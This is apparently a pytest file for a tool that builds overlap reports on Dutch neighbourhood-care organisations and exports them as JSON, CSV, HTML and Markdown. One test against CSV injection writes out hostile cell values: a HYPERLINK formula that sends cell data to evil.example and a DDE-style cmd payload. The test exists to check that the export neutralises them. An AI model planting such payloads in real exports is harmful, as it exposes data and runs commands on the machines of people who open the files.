"""The workshop report on the Overvecht data, in all four formats, from CLI and API."""

import csv
import io
import json
from dataclasses import replace

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from api.app import create_app
from rolemap.cli import app as cli
from rolemap.config import Settings
from rolemap.errors import UnknownOrganisationError
from rolemap.knowledge_base import KnowledgeBase
from rolemap.messages import MESSAGES
from rolemap.report import Finding, Report, build_report
from rolemap.report_formats import FORMATS, render
from rolemap.shacl_core import in_language


@pytest.fixture(scope="module")
def report(overvecht):
    return build_report(overvecht)


def _findings(report, check, term):
    return [f for f in report.findings if f.check == check and any(term in t for t in f.terms)]


def test_een_op_een_begeleiding_is_a_homonym_between_wijkenco_and_the_buurtteams(report):
    pairs = {
        frozenset(o["id"] for o in f.organisations)
        for f in _findings(report, "homonym", "één-op-één begeleiding")
    }
    assert {frozenset({"wijkenco", "lokalis"}), frozenset({"wijkenco", "incluzio"})} <= pairs


def test_een_op_een_begeleiding_overlaps_with_buurtteam_tasks(report):
    overlaps = _findings(report, "overlapping-task", "één-op-één begeleiding")
    partners = {o["id"] for f in overlaps for o in f.organisations} - {"wijkenco"}
    assert {"lokalis", "incluzio"} <= partners
    assert any(f.status == "open" and f.question for f in overlaps)


def test_activering_is_used_differently_by_all_three(report):
    orgs = {o["id"] for f in _findings(report, "homonym", "activering") for o in f.organisations}
    assert {"lokalis", "incluzio", "wijkenco"} <= orgs


def test_voorveld_is_reported_as_loaded_with_its_source(report):
    (finding,) = _findings(report, "connotation", "voorveld")
    assert "denigrerend" in finding.message
    assert any("voorveld" in s.get("quote", "") for s in finding.sources)


def test_loket_is_settled_by_the_warme_overdracht_agreement(report):
    (finding,) = [f for f in report.findings if f.check == "unsettled-case" and "loket" in f.focus]
    assert finding.status == "settled"
    assert "warme-overdracht-loket" in {a["id"] for a in finding.settled_by}


def test_report_for_one_organisation_only_names_findings_involving_it(overvecht):
    focused = build_report(overvecht, ["hogeschool-utrecht"])
    assert focused.findings
    assert all("hogeschool-utrecht" in {o["id"] for o in f.organisations} for f in focused.findings)


def test_unknown_organisation_lists_the_known_ids(overvecht):
    with pytest.raises(UnknownOrganisationError) as caught:
        build_report(overvecht, ["nope"])
    assert "wijkenco" in caught.value.known


def test_json_has_the_documented_shape(report):
    data = json.loads(render(report, "json"))
    assert set(data) >= {"conforms", "summary", "findings"}
    keys = {"check", "severity", "message", "organisations", "terms", "sources", "settled_by"}
    assert all(keys <= set(f) for f in data["findings"])


def test_csv_opens_in_a_spreadsheet_one_finding_per_row(report):
    text = render(report, "csv")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == len(report.findings)
    assert {"check", "severity", "status", "message"} <= set(rows[0])


def _one_finding_report(finding: Finding) -> Report:
    summary = {"findings": 1, "open": 1, "settled": 0, "by_check": {finding.check: 1}}
    return Report(False, summary, [finding], [], {"columns": [], "rows": []})


def test_csv_cells_an_analyst_wrote_never_become_spreadsheet_formulas():
    """CSV injection: a cell starting with = + - @ tab or CR runs as a formula in a spreadsheet;
    OWASP's remedy is a leading ' (the cell then shows as text). Other cells stay as they are."""
    link = '=HYPERLINK("https://evil.example/?d="&A2,"klik hier")'
    finding = Finding(
        check="homonym",
        severity="Warning",
        message=link,
        question="+31 6 12345678 bellen?",
        organisations=[{"id": "-team-noord", "label": "Team Noord"}],
        terms=["@wijkkracht", "buurtkracht"],
        sources=[{"document": "\tcmd|' /C calc'!A0"}],
        settled_by=[{"id": "\rafspraak", "label": "afspraak"}],
    )
    text = render(_one_finding_report(finding), "csv")
    (row,) = csv.DictReader(io.StringIO(text.lstrip("\ufeff")))
    assert row["message"] == "'" + link
    assert row["question"] == "'+31 6 12345678 bellen?"
    assert row["organisations"] == "'-team-noord"
    assert row["terms"] == "'@wijkkracht; buurtkracht"
    assert row["settled_by"] == "'\rafspraak"
    assert row["sources"] == "'\tcmd|' /C calc'!A0"
    assert row["check"] == "homonym" and row["severity"] == "Warning"
    assert row["status"] == "settled"


def test_csv_quotes_every_cell(report):
    """OWASP's second remedy beside the leading ': each cell in double quotes, so that a
    spreadsheet reads a cell's separators and quotes as text."""
    lines = render(report, "csv").lstrip("\ufeff").splitlines()
    for line, row in zip(lines, csv.reader(lines), strict=True):
        assert line == ",".join('"' + cell.replace('"', '""') + '"' for cell in row)


def test_csv_keeps_ordinary_text_exactly_as_it_is(report):
    """Only a cell's first character counts: text with = or - inside is not touched."""
    finding = Finding(
        check="homonym",
        severity="Warning",
        message="'voorveld' = werk van de sociaal makelaar; één-op-één",
        question=None,
        organisations=[{"id": "wijkenco", "label": "Wijk&Co"}],
        terms=["één-op-één begeleiding"],
        sources=[],
    )
    text = render(_one_finding_report(finding), "csv")
    (row,) = csv.DictReader(io.StringIO(text.lstrip("\ufeff")))
    assert row["message"] == finding.message
    assert row["terms"] == "één-op-één begeleiding" and row["organisations"] == "wijkenco"
    rows = list(csv.DictReader(io.StringIO(render(report, "csv").lstrip("\ufeff"))))
    assert [r["message"] for r in rows] == [f.message for f in report.findings]


def test_html_is_one_page_with_the_matrix_as_a_picture(report):
    page = render(report, "html")
    assert page.startswith("<!doctype html>") and "<svg" in page
    assert "Gespreksvraag" in page


_CHROME = {
    "md": ["title", "count", "pairs", "findings", "question", "sources", "assumption", "matrix",
           "target_group", "life_domain", "settled_by"],
    "html": ["title", "findings", "question", "assumption", "matrix", "settled_by",
             "matrix_legend"],
}  # fmt: skip


@pytest.mark.parametrize("fmt", ["html", "md"])
def test_an_english_report_has_english_chrome(overvecht, fmt):
    """Regression: the HTML and Markdown reports were Dutch (and <html lang="nl">) whatever
    the language asked for."""
    text = render(build_report(overvecht, lang="en"), fmt).lower()
    missing = [k for k in _CHROME[fmt] if MESSAGES[f"report_{k}"]["en"].lower() not in text]
    assert missing == []
    assert "overlaprapport" not in text and "bevindingen" not in text
    assert fmt == "md" or '<html lang="en">' in text


def test_markdown_lists_pairs_questions_and_the_matrix(report):
    text = render(report, "md")
    assert "Lokalis ↔ Wijk&Co" in text
    assert "gespreksvraag" in text
    assert "| doelgroep | leefgebied |" in text


def test_cli_writes_every_format(tmp_path):
    runner = CliRunner()
    for fmt in FORMATS:
        out = tmp_path / f"report.{fmt}"
        result = runner.invoke(cli, ["report", "--format", fmt, "--out", str(out)])
        assert result.exit_code == 0, result.output
        assert out.stat().st_size > 0


def test_cli_unknown_format_exits_non_zero_with_the_formats():
    result = CliRunner().invoke(cli, ["report", "--format", "pdf"])
    assert result.exit_code == 1
    assert "json" in result.output and "csv" in result.output


@pytest.fixture(scope="module")
def client():
    return TestClient(create_app())


def test_api_report_json_and_formats(client):
    response = client.get("/api/report")
    assert response.status_code == 200
    assert response.json()["summary"]["findings"] > 0
    for fmt in FORMATS:
        assert client.get("/api/report", params={"format": fmt}).status_code == 200


def test_api_unknown_format_is_400_with_the_formats(client):
    response = client.get("/api/report", params={"format": "pdf"})
    assert response.status_code == 400
    assert response.json()["detail"]["formats"] == list(FORMATS)


def test_api_unknown_organisation_is_404_with_the_known_ids(client):
    response = client.get("/api/report", params={"org": "nope"})
    assert response.status_code == 404
    assert "wijkenco" in response.json()["detail"]["known"]


def test_the_report_is_the_same_on_the_stores_copy_as_on_a_copy_of_the_rdflib_graph():
    """A graph read from the store brings an Oxigraph copy that validation queries directly;
    findings, their order and the organisations found must not depend on it."""
    kb = KnowledgeBase(Settings(data_dir=":memory:"), read_ahead=False)
    try:
        from_store = build_report(kb.kg)
        assert kb.kg.oxigraph is not None
        without_copy = build_report(replace(kb.kg, oxigraph=None))
    finally:
        kb.close()
    assert from_store.findings and from_store.to_json() == without_copy.to_json()


def test_the_whole_report_is_built_once_per_view_over_http(monkeypatch):
    import rolemap.knowledge_base as knowledge_base

    built = []

    def counting(*args, **kwargs):
        built.append(args)
        return build_report(*args, **kwargs)

    monkeypatch.setattr(knowledge_base, "build_report", counting)
    with TestClient(create_app(Settings(data_dir=":memory:"))) as client:
        first = client.get("/api/report")
        assert client.get("/api/report").json() == first.json()
    assert len(built) == 1


def test_a_dutch_report_says_the_default_messages_of_core_constraints_in_dutch(report):
    """pySHACL's default messages are English ('Less than 1 values on …'); NL-SBB's profile
    shapes give no Dutch sh:message for some constraints."""
    english = [f.message for f in report.findings if in_language(f.message, "nl") != f.message]
    assert english == []
